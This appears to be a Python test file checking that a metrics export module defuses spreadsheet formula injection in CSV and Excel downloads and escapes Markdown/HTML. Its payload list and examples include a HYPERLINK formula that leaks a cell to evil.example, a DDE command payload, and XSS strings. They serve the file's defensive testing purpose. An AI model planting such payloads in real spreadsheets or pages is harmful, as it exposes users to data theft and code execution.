"""Downloads neutralise spreadsheet formulas and Markdown/HTML, whatever the text is."""
from __future__ import annotations

import csv
import html
import io
import re

import numpy as np
import pandas as pd
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from metrics.safe_export import (
    FORMULA_PREFIXES,
    markdown_escape,
    needs_quote,
    to_csv_bytes,
    to_xlsx_bytes,
)

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"Klikk")',
    "+47 22 33 44 55",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1",
    "\r=1",
    "=cmd|' /C calc'!A0",
    " =1+1",
    "＝1+1",
]


def read_csv_cells(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 BOM so Excel reads æøå"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_known_payloads_get_a_leading_quote_in_csv() -> None:
    df = pd.DataFrame({"campaign": PAYLOADS, "spend": [-12.5] * len(PAYLOADS)})
    rows = read_csv_cells(to_csv_bytes(df))
    assert rows[0] == ["campaign", "spend"]
    assert [r[0] for r in rows[1:]] == ["'" + p for p in PAYLOADS]
    # a real negative number stays a number
    assert [r[1] for r in rows[1:]] == ["-12.5"] * len(PAYLOADS)


def test_plain_negative_numbers_stay_numbers() -> None:
    assert not needs_quote("-5")
    assert not needs_quote("-12.5")
    assert not needs_quote("-12,5")
    assert not needs_quote("-1e-3")
    assert needs_quote("-5 kr")
    assert needs_quote("-5\n")  # not a plain number: a trailing line break
    assert needs_quote("-A1")
    df = pd.DataFrame({"as_text": ["-5", "-12,5"], "as_number": [-5, -7]})
    rows = read_csv_cells(to_csv_bytes(df))
    assert rows[1:] == [["-5", "-5"], ["-12,5", "-7"]]
    ws = load_workbook(io.BytesIO(to_xlsx_bytes(df))).active
    assert ws["B2"].value == -5 and ws["B2"].data_type == "n"
    assert ws["A2"].value == "-5" and ws["A2"].data_type == "s"


def test_csv_quotes_separators_quotes_and_line_breaks() -> None:
    df = pd.DataFrame({"name": ['Rørlegger "Nord", AS', "to\nlinjer"], "n": [1, 2]})
    data = to_csv_bytes(df)
    assert b'"R\xc3\xb8rlegger ""Nord"", AS"' in data
    assert read_csv_cells(data)[1:] == [['Rørlegger "Nord", AS', "1"], ["to\nlinjer", "2"]]


def test_known_payloads_in_xlsx_are_text_not_formulas() -> None:
    df = pd.DataFrame({"campaign": PAYLOADS, "spend": [-12.5] * len(PAYLOADS)})
    ws = load_workbook(io.BytesIO(to_xlsx_bytes(df))).active
    for i, payload in enumerate(PAYLOADS, start=2):
        cell = ws.cell(row=i, column=1)
        assert cell.data_type == "s", payload
        assert cell.value == "'" + payload.replace("\r", "\n"), payload
        assert ws.cell(row=i, column=2).value == -12.5


def test_xlsx_handles_missing_values_dates_and_control_characters() -> None:
    df = pd.DataFrame({
        "day": pd.to_datetime(["2026-11-23", None]),
        "at": pd.to_datetime(["2026-11-23T08:00:00+01:00", "2026-11-24T08:00:00+01:00"]),
        "spend": [np.inf, np.nan],
        "note": ["bell\x07", None],
    })
    ws = load_workbook(io.BytesIO(to_xlsx_bytes(df))).active
    assert ws["A2"].value.date().isoformat() == "2026-11-23"
    assert ws["A3"].value is None
    assert ws["B2"].value.isoformat() == "2026-11-23T07:00:00"  # written in UTC
    assert ws["C2"].value is None and ws["C3"].value is None
    assert ws["D2"].value == "bell"


texts = st.text(alphabet=st.characters(codec="utf-8"), max_size=30)
# Money and counts: Excel holds 15 significant digits, so stay within ±1e15.
amounts = st.floats(min_value=-1e15, max_value=1e15, allow_nan=False, allow_infinity=False)
frames = st.integers(min_value=0, max_value=6).flatmap(
    lambda n: st.tuples(
        st.lists(texts, min_size=n, max_size=n),
        st.lists(st.integers(min_value=-10**12, max_value=10**12), min_size=n, max_size=n),
        st.lists(amounts, min_size=n, max_size=n),
    )
)


@settings(max_examples=200, deadline=None)
@given(frames)
def test_csv_round_trip_neutralises_every_formula(cols: tuple[list[str], list[int], list[float]]) -> None:
    text, ints, floats = cols
    df = pd.DataFrame({"text": pd.Series(text, dtype=object), "i": pd.Series(ints, dtype="int64"),
                       "f": pd.Series(floats, dtype="float64")})
    rows = read_csv_cells(to_csv_bytes(df))
    assert rows[0] == ["text", "i", "f"]
    assert len(rows) == len(text) + 1
    for (t, i, f), (ct, ci, cf) in zip(zip(text, ints, floats), rows[1:]):
        assert ct == ("'" + t if needs_quote(t) else t)
        assert not ct.lstrip(" \u00a0").startswith(FORMULA_PREFIXES) or re.fullmatch(r"-[\d.,eE+-]+", ct)
        assert int(ci) == i
        assert float(cf) == f


@settings(max_examples=100, deadline=None)
@given(frames)
def test_xlsx_round_trip_keeps_text_as_text(cols: tuple[list[str], list[int], list[float]]) -> None:
    text, ints, floats = cols
    df = pd.DataFrame({"text": pd.Series(text, dtype=object), "i": pd.Series(ints, dtype="int64"),
                       "f": pd.Series(floats, dtype="float64")})
    ws = load_workbook(io.BytesIO(to_xlsx_bytes(df))).active
    got = list(ws.iter_rows(min_row=2, values_only=False))
    assert len(got) == len(text)
    for (t, i, f), (ct, ci, cf) in zip(zip(text, ints, floats), got):
        clean = ILLEGAL_CHARACTERS_RE.sub("", t)
        expected = "'" + clean if needs_quote(clean) else clean
        if expected == "":
            assert ct.value is None
        else:
            assert ct.data_type == "s"
            # XML turns a carriage return into a line feed; nothing else changes
            assert ct.value == expected.replace("\r\n", "\n").replace("\r", "\n")
        assert ci.value == i and ci.data_type == "n"
        assert abs(cf.value - f) <= abs(f) * 1e-15  # openpyxl writes 16 significant digits


_ESCAPED = re.compile(r"\\[\\`*_{}\[\]()#+\-.!|~$:]|&(?:amp|lt|gt);")


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=60))
def test_markdown_escape_leaves_no_markup(text: str) -> None:
    out = markdown_escape(text)
    rest = _ESCAPED.sub("", out)
    assert not re.search(r"[\\`*_{}\[\]()#+\-.!|~$:<>&]", rest), (text, out)
    assert "\n" not in out and "\r" not in out
    # and nothing is lost: undoing the escapes gives the text back (white space collapsed, except
    # the no-break spaces that keep a formatted number on one line)
    undone = html.unescape(re.sub(r"\\(.)", r"\1", out))
    assert undone == re.sub(r"[^\S\u00a0\u202f]+", " ", text).strip()


def test_markdown_escape_examples() -> None:
    assert markdown_escape("<img src=x onerror=alert(1)>") == "&lt;img src=x onerror=alert\\(1\\)&gt;"
    assert markdown_escape("[klikk](javascript:alert(1))") == "\\[klikk\\]\\(javascript\\:alert\\(1\\)\\)"
    assert markdown_escape("# Overskrift | celle") == "\\# Overskrift \\| celle"
    assert markdown_escape("linje 1\n<b>linje 2</b>", inline=False) == "linje 1  \nlinje 2".replace(
        "linje 2", "&lt;b&gt;linje 2&lt;/b&gt;")
    assert markdown_escape(None) == ""
    assert markdown_escape("1\u00a0405\u00a0kr\n") == "1\u00a0405\u00a0kr"
